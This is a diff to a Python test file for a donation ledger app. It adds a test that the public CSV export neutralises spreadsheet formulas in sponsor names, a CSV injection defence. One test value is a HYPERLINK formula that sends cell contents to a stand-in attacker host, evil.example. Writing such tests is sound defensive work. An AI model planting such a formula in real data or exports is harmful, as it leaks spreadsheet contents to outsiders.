@@ -34,7 +34,7 @@ from donations.models import (
 from donations.outbox import LogSender, deliver_pending
 from donations.schemas import PledgeIn
 from tests.conftest import TEST_SECRET, settings_for
-from tests.support import MUONG_LA, flat, make_library, make_need, make_user, post_form, sign_in
+from tests.support import MUONG_LA, PASSWORD, flat, make_library, make_need, make_user, post_form, sign_in
 
 ISSUER = "Sở Văn hóa, Thể thao và Du lịch tỉnh Sơn La"
 ORG = "Công ty CP Sách Tây Bắc"
@@ -367,6 +367,29 @@ async def test_ledger_lists_confirmed_donations_and_never_names_the_anonymous(cl
         assert row[8] == str(item["value"])
         assert row[2] == (item["sponsor"] or "Ẩn danh")
         assert row[12] == item["status"]
+
+
+async def test_ledger_csv_keeps_a_sponsors_formula_as_text(client, db) -> None:
+    """A sponsor names themselves (registering is open to anyone) as a spreadsheet formula: the
+    public ledger's CSV, which offices open in Excel, keeps it as text (OWASP "CSV injection"), as
+    the honor roll's lists do; the page and the JSON give the name as it is."""
+    names = ['=HYPERLINK("https://evil.example/?"&A1,"Xem")', "+84 912 345 678", "-2+3", "@SUM(1+1)"]
+    for i, name in enumerate(names):
+        response = await post_form(client, "/register", {
+            "sponsor_type": "individual", "full_name": name, "email": f"s{i}@example.vn", "password": PASSWORD})
+        assert response.status_code == 303, response.text
+        client.cookies.clear()
+    for i, name in enumerate(names):
+        who = await db.scalar(select(User).where(User.email == f"s{i}@example.vn"))
+        assert who is not None and who.full_name == name
+        await money(db, who, 100_000 * (i + 1))
+    await db.commit()
+    rows = _csv_rows((await client.get("/ledger?format=csv")).content)[1:]
+    exported = {row[2] for row in rows}
+    assert exported == {"'" + name for name in names}
+    assert all(row[8].isdigit() for row in rows)  # amounts stay numbers
+    api = (await client.get("/api/v1/ledger")).json()
+    assert {i["sponsor"] for i in api["items"]} == set(names)
 
 
 async def test_ledger_totals_by_month_and_commune_match_the_rows(client, db) -> None:
